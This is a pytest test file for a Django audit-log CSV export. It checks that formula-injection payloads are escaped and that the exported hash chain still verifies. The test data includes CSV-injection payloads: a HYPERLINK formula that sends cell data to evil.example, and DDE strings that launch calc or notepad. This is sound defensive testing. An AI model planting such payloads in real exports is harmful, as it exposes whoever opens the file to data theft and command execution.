"""No cell of the audit CSV export runs as a spreadsheet formula, and the export still re-verifies."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from governance.audit.access_queue import access_drain
from governance.audit.models import HASHED_FIELDS
from governance.audit.hashing import content_hash
from governance.audit.services import agent_event_record
from governance.csv_cells import FORMULA_TRIGGERS, cell_restore
from tests import factories

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _export(user) -> list[dict]:
    access_drain()  # the exports before this one are in the trail it exports
    client = Client(HTTP_USER_AGENT="=cmd|' /C notepad'!A0")
    client.force_login(user)
    response = client.get(reverse("audit:export_csv"))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_every_trigger_character_has_a_payload():
    assert sorted(PAYLOADS) == sorted(FORMULA_TRIGGERS)
    assert all(payload.startswith(char) for char, payload in PAYLOADS.items())


@pytest.mark.django_db
@pytest.mark.parametrize("char", list(PAYLOADS))
def test_a_summary_starting_with_a_formula_trigger_is_exported_as_text(audrey, char):
    agent_event_record(agent_name="drift-monitor", action="drift.checked", summary=PAYLOADS[char])
    (row,) = [row for row in _export(audrey) if row["action"] == "drift.checked"]
    assert row["summary"] == "'" + PAYLOADS[char]


@pytest.mark.django_db
def test_no_exported_cell_starts_like_a_formula_and_the_export_re_verifies(alice, audrey):
    factories.make_model(alice, name="-2+3+cmd|' /C calc'!A0")  # a model name: object_repr
    for char, payload in PAYLOADS.items():
        agent_event_record(agent_name=payload, action="job.ran", summary=payload)
    agent_event_record(agent_name="scheduler", action="job.ran", summary="'quoted by its author")
    _export(audrey)  # the first export is recorded with this user agent; the second exports it
    rows = _export(audrey)

    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert any(row["user_agent"] == "'=cmd|' /C notepad'!A0" for row in rows)
    assert any(row["object_repr"] == "'-2+3+cmd|' /C calc'!A0" for row in rows)
    assert any(row["summary"] == "''quoted by its author" for row in rows)

    # Offline: undo the one documented rule, then every hash and link of the chain holds.
    previous = None
    for row in rows:
        values = []
        for field in HASHED_FIELDS:
            if field == "seq":
                values.append(int(row[field]))
            elif field in ("actor_id", "version_number"):
                values.append(int(row[field]) if row[field] else None)
            else:
                values.append(cell_restore(row[field]))
        assert content_hash(values) == row["hash"], row["seq"]
        if previous is not None:
            assert row["prev_hash"] == previous["hash"]
        previous = row
